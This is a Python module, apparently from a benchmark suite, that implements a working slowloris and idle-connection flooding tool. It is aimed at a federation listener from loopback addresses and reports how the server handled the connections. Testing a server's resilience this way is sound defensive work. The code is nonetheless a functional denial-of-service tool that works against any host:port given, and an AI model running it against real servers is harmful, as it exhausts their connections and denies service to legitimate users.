"""A light attacker for `bench.attacks`, run in its own process so its CPU is its own:
`python -m bench.attacker --mode slowloris|idle --target HOST:PORT ...`.

* `slowloris`: each connection completes TLS, then sends a request's headers one byte at a
  time, one byte per connection every `--interval` seconds, and never finishes them.
* `idle`: each connection is plain TCP that never sends a byte (not even a TLS hello).

Either way the attacker keeps `--connections` open for `--seconds`: a connection the server
closes is opened again after `--reopen` seconds, as a real slowloris does. Connections come
from `--sources` loopback addresses (127.66.0.1, 127.66.0.2, ...), or from 127.0.0.66 alone
when `--sources 1`. All bytes go out from one timer per tick, not one task per connection, so
the attacker itself stays light, and it runs at the lowest CPU priority (`--nice`, default 19):
a real attacker's CPU is on its own machine, while here it shares the nodes' cores. At the end
it prints one JSON object: what happened to its connections and the CPU it used.
"""

from __future__ import annotations

import argparse
import asyncio
import ipaddress
import json
import os
import resource
import ssl
import statistics
import sys
import time

__all__ = ["main", "source_addresses"]

# A plausible request line and headers; after them the attacker repeats a header line forever.
_HEADERS = b"GET /_agentnet/v1/keys HTTP/1.1\r\nHost: target\r\nUser-Agent: bench-attacker\r\n"
_FILLER = b"X-Filler: aaaaaaaaaaaaaaaa\r\n"
_CONNECT_TIMEOUT_S = 15.0


def source_addresses(count: int) -> list[str]:
    """127.0.0.66 alone, or `count` addresses from 127.66.0.1 on (all of 127/8 is loopback)."""
    if count == 1:
        return ["127.0.0.66"]
    first = int(ipaddress.IPv4Address("127.66.0.1"))
    return [str(ipaddress.IPv4Address(first + i)) for i in range(count)]


class _Conn(asyncio.Protocol):
    def __init__(self, stats: _Stats) -> None:
        self.stats = stats
        self.transport: asyncio.Transport | None = None
        self.sent = 0
        self.opened_at = 0.0
        self.aborted = False  # closed by the attacker itself at the end, not by the server
        self.closed = asyncio.get_running_loop().create_future()

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.transport = transport  # type: ignore[assignment]
        self.opened_at = time.monotonic()

    def data_received(self, data: bytes) -> None:
        self.stats.answers += 1

    def connection_lost(self, exc: BaseException | None) -> None:
        if not self.aborted:
            self.stats.lifetimes.append(time.monotonic() - self.opened_at)
        if not self.closed.done():
            self.closed.set_result(None)

    def trickle(self) -> None:
        if self.transport is None or self.transport.is_closing():
            return
        stream = _HEADERS if self.sent < len(_HEADERS) else _FILLER
        offset = self.sent if self.sent < len(_HEADERS) else (self.sent - len(_HEADERS)) % len(_FILLER)
        self.transport.write(stream[offset:offset + 1])
        self.sent += 1


class _Stats:
    def __init__(self) -> None:
        self.attempts = 0
        self.failed = 0  # the connection or the TLS handshake failed
        self.answers = 0  # chunks the server sent (an error answer, say)
        self.lifetimes: list[float] = []
        self.open_peak = 0


async def _keep_one(slot: int, args: argparse.Namespace, sources: list[str], stats: _Stats,
                    live: set[_Conn], deadline: float, tls: ssl.SSLContext | None) -> None:
    loop = asyncio.get_running_loop()
    host, port = args.target.rsplit(":", 1)
    while time.monotonic() < deadline:
        stats.attempts += 1
        conn: _Conn | None = None
        try:
            _, conn = await asyncio.wait_for(loop.create_connection(
                lambda: _Conn(stats), host, int(port), ssl=tls, server_hostname="target" if tls else None,
                local_addr=(sources[slot % len(sources)], 0)), _CONNECT_TIMEOUT_S)
        except (TimeoutError, OSError):
            stats.failed += 1
        if conn is not None:
            live.add(conn)
            stats.open_peak = max(stats.open_peak, len(live))
            try:
                await asyncio.wait_for(asyncio.shield(conn.closed), max(0.0, deadline - time.monotonic()))
            except TimeoutError:
                pass
            finally:
                live.discard(conn)
                if conn.transport is not None and not conn.closed.done():
                    conn.aborted = True
                    conn.transport.abort()
        await asyncio.sleep(args.reopen)


async def _attack(args: argparse.Namespace) -> dict:
    sources = source_addresses(args.sources)
    tls = None
    if args.mode == "slowloris":
        tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        tls.check_hostname = False
        tls.verify_mode = ssl.CERT_NONE
    stats, live = _Stats(), set[_Conn]()
    started = time.monotonic()
    deadline = started + args.seconds
    ticker = None
    if args.mode == "slowloris":
        async def tick() -> None:
            while True:
                await asyncio.sleep(args.interval)
                for conn in list(live):
                    conn.trickle()
        ticker = asyncio.create_task(tick())
    # Open in waves, as a real client library would, rather than all in one loop turn.
    slots = []
    for slot in range(args.connections):
        slots.append(asyncio.create_task(_keep_one(slot, args, sources, stats, live, deadline, tls)))
        if slot % 50 == 49:
            await asyncio.sleep(0.01)
    await asyncio.gather(*slots)
    if ticker is not None:
        ticker.cancel()
    usage = resource.getrusage(resource.RUSAGE_SELF)
    lifetimes = sorted(stats.lifetimes)
    return {
        "mode": args.mode, "connections": args.connections, "sources": len(sources), "seconds": args.seconds,
        "attempts": stats.attempts, "failed": stats.failed, "closed_by_server": len(lifetimes),
        "open_peak": stats.open_peak, "answers": stats.answers,
        "lifetime_p50_s": statistics.median(lifetimes) if lifetimes else None,
        "lifetime_max_s": lifetimes[-1] if lifetimes else None,
        "cpu_s": usage.ru_utime + usage.ru_stime, "wall_s": time.monotonic() - started,
    }


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m bench.attacker", description=__doc__.splitlines()[0])
    parser.add_argument("--mode", choices=["slowloris", "idle"], required=True)
    parser.add_argument("--target", required=True, help="HOST:PORT of a federation listener")
    parser.add_argument("--connections", type=int, default=134)
    parser.add_argument("--seconds", type=float, default=6.0)
    parser.add_argument("--sources", type=int, default=1, help="how many loopback source addresses")
    parser.add_argument("--interval", type=float, default=0.5, help="seconds between bytes, per connection")
    parser.add_argument("--reopen", type=float, default=1.0, help="seconds before a closed connection is reopened")
    parser.add_argument("--nice", type=int, default=19, help="added to the process's nice value (0: none)")
    args = parser.parse_args(argv)
    os.nice(args.nice)
    result = asyncio.run(_attack(args))
    print(json.dumps(result), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
